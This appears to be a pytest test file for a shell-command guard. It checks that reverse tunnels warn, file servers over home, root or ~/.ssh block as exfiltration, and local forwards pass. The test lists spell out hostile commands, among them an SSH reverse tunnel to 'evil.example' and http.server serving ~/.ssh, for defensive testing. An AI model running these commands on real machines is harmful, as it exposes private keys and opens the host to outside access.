"""classify(): commands that open this machine to other hosts.

Reverse tunnels (``ssh -R``, ngrok, cloudflared, chisel ``R:``) warn
(``shell.network-expose``); file servers over ``/``, ``~`` or a secret directory block as
exfiltration; local forwards, SOCKS proxies and serving the project pass.
"""

from __future__ import annotations

import pytest

from deerguard import Verdict
from deerguard.shell import classify


@pytest.mark.parametrize("command", [
    "ssh -R 0.0.0.0:2222:localhost:22 user@evil.example",
    "ssh -fNR 9000:localhost:22 x@h",
    "ssh -o RemoteForward='8080 localhost:80' h",
    "ssh -i key -R 80:localhost:8080 serveo.net",
    "autossh -M 0 -R 2222:localhost:22 h",
    "sudo ssh -R 22:localhost:22 h",
    "ngrok tcp 22",
    "ngrok http 3000",
    "cloudflared tunnel --url http://localhost:8080",
    "lt --port 8000",
    "bore local 8000 --to bore.pub",
    "chisel client https://x.example R:2222:localhost:22",
    "tailscale funnel 443",
])
def test_tunnels_into_this_machine_warn(command: str) -> None:
    result = classify(command)
    assert result.verdict >= Verdict.WARN, result.to_dict()
    assert "shell.network-expose" in result.rule_ids


@pytest.mark.parametrize("command", [
    "python3 -m http.server 8000 --directory ~",
    "python3 -m http.server --directory /",
    "python -m http.server -d ~/.ssh",
    "cd ~ && python3 -m http.server",
    "php -S 0.0.0.0:8000 -t /",
    "busybox httpd -f -p 8080 -h /",
    "caddy file-server --root / --listen :80",
    "http-server ~ -p 8080",
])
def test_file_servers_over_home_root_or_secret_directories_block(command: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.BLOCK, result.to_dict()
    assert "shell.exfiltration" in result.rule_ids


@pytest.mark.parametrize("command", [
    "ssh -L 5432:db:5432 bastion",
    "ssh -D 1080 h",
    "ssh h 'ls -R /tmp'",
    "ssh h ls -R /tmp",
    "ngrok version",
    "cloudflared tunnel login",
    "chisel server -p 8080",
    "tailscale status",
    "python3 -m http.server 8000",
    "cd dist && python3 -m http.server 8080",
    "php -S localhost:8000",
    "php -S 0.0.0.0:80 -t public",
    "caddy run",
    "serve -s build",
    "httpd -k restart",
])
def test_outgoing_forwards_and_serving_the_project_pass(command: str) -> None:
    assert classify(command).verdict is Verdict.PASS, classify(command).to_dict()
